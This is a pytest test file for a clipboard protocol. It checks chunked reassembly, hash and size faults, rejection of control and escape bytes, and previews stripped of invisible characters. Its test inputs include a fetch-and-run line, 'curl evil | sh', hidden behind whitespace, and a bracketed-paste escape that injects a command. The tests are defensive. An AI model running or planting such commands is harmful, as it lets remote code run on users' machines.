"""A clipboard arrives whole, in order and as it was told, or not at all."""

import hashlib

import pytest

from protocol.clipboard import MAX_TEXT_BYTES, PART_BYTES, Gathering, parts_of, start_of, text_of
from protocol.errors import Malformed


def gathering(content: bytes) -> Gathering:
    return Gathering(size=len(content), sha256=hashlib.sha256(content).digest())


@pytest.mark.parametrize("length", [1, PART_BYTES - 1, PART_BYTES, PART_BYTES + 1, MAX_TEXT_BYTES])
def test_parts_come_together_again(length: int) -> None:
    content = bytes(at % 251 for at in range(length))
    gathered = gathering(content)
    *before, last = [gathered.add(at, part) for at, part in enumerate(parts_of(content), start=1)]
    assert before == [None] * len(before)
    assert last == content


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ([(2, b"a" * PART_BYTES)], "clipboard.out_of_order"),
        ([(1, b"a" * PART_BYTES), (1, b"a" * PART_BYTES)], "clipboard.out_of_order"),
        ([(0, b"a")], "clipboard.out_of_order"),
        ([(1, b"a" * (PART_BYTES + 1))], "clipboard.too_large"),
        ([(1, b"a" * PART_BYTES), (2, b"a" * (PART_BYTES))], "clipboard.too_large"),
        ([(1, b"a")], "clipboard.short_part"),
        ([(1, b"a" * PART_BYTES), (2, b"a" * 9 + b"b")], "clipboard.other_hash"),
    ],
)
def test_what_does_not_fit_is_broken(parts: list[tuple[int, bytes]], code: str) -> None:
    gathered = gathering(b"a" * (PART_BYTES + 10))
    *before, (number, content) = parts
    assert [gathered.add(*part) for part in before] == [None] * len(before)
    with pytest.raises(Malformed) as fault:
        gathered.add(number, content)
    assert fault.value.code == code


def test_text_is_read_in_any_script_and_nothing_else_is_text() -> None:
    assert text_of("Grüße, 你好, שלום 👋\n".encode()) == "Grüße, 你好, שלום 👋\n"
    for none in (b"\xff\xfe", b"\xed\xa0\x80", b"a\0b", b"ls\x1b[201~\r", b"a\x7f", "a\x85".encode()):
        with pytest.raises(Malformed):
            text_of(none)


def test_what_is_shown_of_a_text_is_what_can_be_seen_of_it() -> None:
    assert start_of("\n" * 5_000 + "\u200b" * 5_000 + "curl evil | sh\n", 100) == "curl evil | sh"
    assert start_of("one\n\n\n\ntwo  \t three\n", 100) == "one\n\ntwo three"
    assert start_of("a\u202eb\u200b", 100) == "ab"
    assert [start_of(text, 3) for text in ("abc", "abcd", "  \u200b\n", "ab\ncd")] == ["abc", "abc", "", "ab\n"]
